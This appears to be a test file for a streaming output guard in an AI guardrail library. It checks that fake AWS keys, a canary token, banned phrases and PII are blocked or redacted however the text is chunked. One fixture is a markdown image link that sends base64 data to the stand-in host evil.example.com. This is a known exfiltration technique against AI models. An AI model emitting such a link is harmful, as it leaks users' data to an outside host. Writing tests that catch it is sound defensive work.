/**
 * The stream rail's promise, tested exhaustively: forbidden content split at every possible chunk
 * boundary, into 1-character chunks and into random chunkings never reaches the released text;
 * redactions land as in a one-shot check; benign text arrives complete and unchanged.
 */
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { createGuard, type Guard } from "../create-guard.js";
import { chunkAt, runStream, type StreamRun } from "./run-stream.js";
import type { StreamGuardOptions } from "./types.js";

const AWS_ID = "AKIAZ7VRSQ5TJSWY3ABC";
const AWS_SECRET = "q8Hj2kLmN4pQ7rStUvWxYz0aB1cD2eF3gH4iJ5kL";
const CANARY = "CANARY-7f3a9b21";
const EXFIL = "![chart](https://evil.example.com/log?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU=)";
const BANNED = "operation nightfall";

interface BlockCase {
  name: string;
  text: string;
  /** The violating strings: nothing from the first one's start onwards may be released. */
  forbidden: string[];
  canaries?: string[];
  policy: "default" | "banned";
}

const BLOCK_CASES: BlockCase[] = [
  {
    name: "AWS key id with its secret key",
    text: `Sure, here is the config you asked for. aws_access_key_id = ${AWS_ID} and aws_secret_access_key = ${AWS_SECRET} should work. Let me know.`,
    forbidden: [AWS_ID, AWS_SECRET],
    policy: "default",
  },
  {
    name: "AWS secret key assigned to its name",
    text: `Here you go. Set aws_secret_access_key = ${AWS_SECRET} in the file. Anything else?`,
    forbidden: [AWS_SECRET],
    policy: "default",
  },
  {
    name: "canary token",
    text: `Of course. The hidden token is ${CANARY} as requested, and that is all.`,
    forbidden: [CANARY],
    canaries: [CANARY],
    policy: "default",
  },
  {
    name: "markdown image exfiltration link",
    text: `Here is the chart. ${EXFIL} Enjoy the view.`,
    forbidden: [EXFIL],
    policy: "default",
  },
  {
    name: "banned phrase (policy extending default)",
    text: `The plan is called ${BANNED} and it starts soon. Stay tuned.`,
    forbidden: [BANNED],
    policy: "banned",
  },
];

interface RedactCase {
  name: string;
  text: string;
  forbidden: string[];
}

const REDACT_CASES: RedactCase[] = [
  {
    name: "email",
    text: "Thanks for asking. You can reach Jane at jane.doe@example.org or by letter. She replies fast.",
    forbidden: ["jane.doe@example.org", "jane.doe", "example.org"],
  },
  {
    name: "phone and spaced card number",
    text: "Call +1 415 555 0132 today, or pay with 4111 1111 1111 1111. Thanks for waiting.",
    forbidden: ["415 555 0132", "4111 1111 1111 1111", "555 0132", "1111 1111"],
  },
  {
    name: "two emails in two sentences",
    text: "Write to ann.lee@example.com first. If she is away, write to bob.ray@example.net instead.",
    forbidden: ["ann.lee", "bob.ray", "example.com", "example.net"],
  },
];

const BENIGN = [
  "The garden looks lovely in spring. Tulips open first, then the lilacs! Would you like tips on pruning?",
  // A run-on sentence longer than the hold window, then a code block without sentence ends.
  "When you plan a long hike you should think about water and food and the weather and the light and " +
    "how far you can walk before it gets dark and whether the trail has shelters along the way and who " +
    "knows where you are going and when you expect to be back so that someone can call for help if needed\n\n" +
    "```js\nfunction add(a, b) {\n  return a + b;\n}\nconsole.log(add(2, 3));\n```\n\nDr. Smith agrees, e.g. in ch. 3.",
  "東京は日本の首都です。人口は多いです。Kyoto is older. Ça va? Oui!",
];

let guards: Record<"default" | "banned", Guard>;

beforeAll(async () => {
  guards = {
    default: await createGuard({ policy: "default" }),
    banned: await createGuard({ policy: { extends: "default", terms: { banned: [BANNED] } } }),
  };
});

function assertBlocked(c: BlockCase, run: StreamRun, chunks: string[]): void {
  const where = `${c.name}, chunks ${JSON.stringify(chunks)}`;
  expect(run.blocked, where).toBeDefined();
  expect(run.end, where).toBeUndefined();
  for (const f of c.forbidden) expect(run.released.includes(f), where).toBe(false);
  // Only clean text before the first violation may have gone out, exactly as it was written.
  const firstViolation = Math.min(...c.forbidden.map((f) => c.text.indexOf(f)));
  expect(c.text.slice(0, firstViolation).startsWith(run.released), where).toBe(true);
  expect(run.blocked?.safeReply.length, where).toBeGreaterThan(0);
  expect(run.events.at(-1)?.type, where).toBe("blocked");
}

async function checkBlockCase(c: BlockCase, chunks: string[], options?: StreamGuardOptions): Promise<void> {
  const ctx = c.canaries ? { canaries: c.canaries } : undefined;
  const run = await runStream(guards[c.policy], chunks, { ...options, ...(ctx ? { ctx } : {}) });
  assertBlocked(c, run, chunks);
}

async function checkRedactCase(
  c: RedactCase,
  expected: string,
  chunks: string[],
  options?: StreamGuardOptions,
): Promise<void> {
  const run = await runStream(guards.default, chunks, options);
  const where = `${c.name}, chunks ${JSON.stringify(chunks)}`;
  expect(run.blocked, where).toBeUndefined();
  expect(run.released, where).toBe(expected);
  for (const f of c.forbidden) expect(run.released.includes(f), where).toBe(false);
  expect(run.end?.decision.action, where).toBe("modify");
  expect(run.end?.decision.text, where).toBe(expected);
}

async function checkBenign(text: string, chunks: string[], options?: StreamGuardOptions): Promise<void> {
  const run = await runStream(guards.default, chunks, options);
  const where = `chunks ${JSON.stringify(chunks)}`;
  expect(run.blocked, where).toBeUndefined();
  expect(run.released, where).toBe(text);
  expect(run.end?.decision.action, where).toBe("allow");
  expect(run.end?.decision.text, where).toBe(text);
}

const everySplit = (text: string): string[][] =>
  Array.from({ length: text.length + 1 }, (_, i) => chunkAt(text, [i]));
const singleChars = (text: string): string[] => [...text];
const chunkings = (len: number) =>
  fc.array(fc.integer({ min: 1, max: Math.max(1, len - 1) }), { minLength: 0, maxLength: 24 });

/** Default settings, and a small window that forces releases at spaces inside sentences. */
const SETTINGS: Array<[string, StreamGuardOptions]> = [
  ["default window", {}],
  ["small window", { holdChars: 48, lookaheadChars: 24 }],
];

describe.each(SETTINGS)("stream rail (%s)", (_label, options) => {
  describe.each(BLOCK_CASES)("blocks $name", (c) => {
    it("split at every possible chunk boundary", async () => {
      for (const chunks of everySplit(c.text)) await checkBlockCase(c, chunks, options);
    });
    it("in 1-character chunks", async () => {
      await checkBlockCase(c, singleChars(c.text), options);
    });
    it("in random chunkings", async () => {
      await fc.assert(
        fc.asyncProperty(chunkings(c.text.length), async (cuts) =>
          checkBlockCase(c, chunkAt(c.text, cuts), options),
        ),
        { numRuns: 60 },
      );
    });
  });

  describe.each(REDACT_CASES)("redacts $name", (c) => {
    let expected: string;
    beforeAll(async () => {
      const d = await guards.default.checkOutput(c.text);
      expect(d.action).toBe("modify");
      expected = d.text as string;
    });
    it("split at every possible chunk boundary, as a one-shot check would", async () => {
      for (const chunks of everySplit(c.text)) await checkRedactCase(c, expected, chunks, options);
    });
    it("in 1-character chunks", async () => {
      await checkRedactCase(c, expected, singleChars(c.text), options);
    });
    it("in random chunkings", async () => {
      await fc.assert(
        fc.asyncProperty(chunkings(c.text.length), async (cuts) =>
          checkRedactCase(c, expected, chunkAt(c.text, cuts), options),
        ),
        { numRuns: 60 },
      );
    });
  });

  describe.each(BENIGN.map((text, i) => ({ i, text })))("benign text $i", ({ text }) => {
    it("arrives complete and unchanged at every split", async () => {
      for (const chunks of everySplit(text)) await checkBenign(text, chunks, options);
    });
    it("arrives complete and unchanged in 1-character chunks and random chunkings", async () => {
      await checkBenign(text, singleChars(text), options);
      await fc.assert(
        fc.asyncProperty(chunkings(text.length), async (cuts) =>
          checkBenign(text, chunkAt(text, cuts), options),
        ),
        { numRuns: 40 },
      );
    });
  });
});
